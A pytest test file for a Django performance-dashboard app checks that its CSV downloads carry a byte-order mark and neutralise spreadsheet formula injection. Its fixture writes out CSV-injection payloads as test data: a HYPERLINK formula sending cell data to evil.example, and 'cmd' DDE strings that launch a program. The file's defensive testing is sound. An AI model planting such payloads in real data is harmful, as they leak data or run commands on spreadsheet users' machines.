"""Every CSV download (issue 8, item 4): UTF-8 with a byte-order mark, no cell a spreadsheet would run.

Owners and facilitators control text that lands in the administrator's downloads (enterprise,
cluster, commodity, period, unit, rating label): each is written so that a spreadsheet reads it
as text, while numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import get_resolver, reverse

from kinerja_web.downloads import FORMULA_STARTS, cell, csv_text
from kinerja_web.performance.tests import dashboard_fixtures as dash
from kinerja_web.performance.tests import paper

#: Every download of the site; ``test_every_csv_address_is_covered`` fails when one is added untested.
DOWNLOADS = (
    "performance:scorecard_csv",
    "performance:comparison_csv",
    "dashboards:program_csv",
    "dashboards:cluster_csv",
)

#: Downloads whose neutralisation is tested beside their app (same helper, their own data).
COVERED_ELSEWHERE = {
    "competency:study_csv": (
        "competency/tests/test_studies.py::test_study_csv_has_a_bom_and_neutralises_formulas"
    ),
}

EVIL = {
    "enterprise": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "cluster": "+cmd|' /C calc'!A0",
    "commodity": "@SUM(1+1)*cmd|' /C calc'!A0",
    "period": "-2+3",
    "unit": "\t=1+1",
    "rating": "=Baik+1",
}


@pytest.fixture
def evil_world(paper_world):
    """The paper's world with every owner- or facilitator-typed text starting like a formula."""
    world = paper_world
    world.enterprise.name = EVIL["enterprise"]
    world.enterprise.commodity = EVIL["commodity"]
    world.enterprise.save()
    world.cluster.name = EVIL["cluster"]
    world.cluster.save()
    world.period.name = EVIL["period"]
    world.period.save()
    world.framework.nodes.filter(kind="indicator").update(unit=EVIL["unit"])
    # Two closed quarters whose frozen results fell: the ranking's change is a negative number.
    q1 = dash.period(world.program, "Q1 2030", datetime.date(2030, 1, 1))
    q2 = dash.period(world.program, "Q2 2030", datetime.date(2030, 4, 1))
    dash.result(world.enterprise, q1, 80.0)
    fell = dash.result(world.enterprise, q2, 65.5)
    # The program's own rating bands name the ratings (an administrator types their labels).
    world.program.rating_bands = [
        {"min": 0, "code": fell.rating_code, "label_en": EVIL["rating"], "label_id": EVIL["rating"]}
    ]
    world.program.save()
    for quarter in (0, 1):
        paper.table2_scorecard(
            world.enterprise, paper.period(world.program, quarter), world.framework, quarter
        )
    return world


def _url(name: str, world) -> str:
    if name == "performance:scorecard_csv":
        return reverse(name, args=[world.enterprise.pk, world.period.pk])
    if name == "performance:comparison_csv":
        return reverse(name, args=[world.enterprise.pk])
    if name == "dashboards:program_csv":
        return reverse(name, args=[world.program.pk])
    return reverse(name, args=[world.cluster.pk])


def _download(client, url: str) -> tuple[bytes, list[list[str]]]:
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", DOWNLOADS)
def test_every_download_has_a_bom_and_no_cell_a_spreadsheet_would_run(client, evil_world, name):
    client.force_login(evil_world.admin)
    body, rows = _download(client, _url(name, evil_world))
    assert body.startswith("\ufeff".encode())
    cells = [value for row in rows for value in row]
    for value in cells:
        if value.startswith(FORMULA_STARTS):
            float(value)  # only a plain number may start with "-" (or "+"): it stays a number
    texts = set(cells)
    expected = {
        "performance:scorecard_csv": ("enterprise", "period", "unit"),
        "performance:comparison_csv": ("enterprise", "unit"),
        "dashboards:program_csv": ("enterprise", "cluster", "commodity", "rating"),
        "dashboards:cluster_csv": ("enterprise", "cluster", "commodity", "rating"),
    }[name]
    for key in expected:
        assert "'" + EVIL[key] in texts, key  # there, as text


def test_a_negative_change_in_the_ranking_stays_a_number(client, evil_world):
    client.force_login(evil_world.admin)
    _body, rows = _download(client, _url("dashboards:program_csv", evil_world))
    row = next(row for row in rows[1:] if row[1] == "'" + EVIL["enterprise"])
    assert float(row[6]) == 65.5 and float(row[9]) == -14.5 and row[9] == "-14.5"


def test_every_csv_address_is_covered():
    """Each ``.csv`` address of the site is in ``DOWNLOADS`` (a new download needs its case here)."""

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, inner)
            elif str(pattern.pattern).endswith(".csv") or "csv" in (pattern.name or ""):
                yield f"{namespace}{pattern.name}"

    assert set(walk(get_resolver().url_patterns)) == set(DOWNLOADS) | set(COVERED_ELSEWHERE)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-5", "'-5"),  # text, even if it looks like a number: the writer knows numbers by type
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("UD Maju", "UD Maju"),
        (-5, "-5"),
        (-2.5, "-2.5"),
        (None, ""),
    ],
)
def test_cell_neutralises_text_and_keeps_numbers(value, written):
    assert cell(value) == written


def test_csv_text_starts_with_the_byte_order_mark():
    assert csv_text([["a", -1]]) == "\ufeffa,-1\r\n"
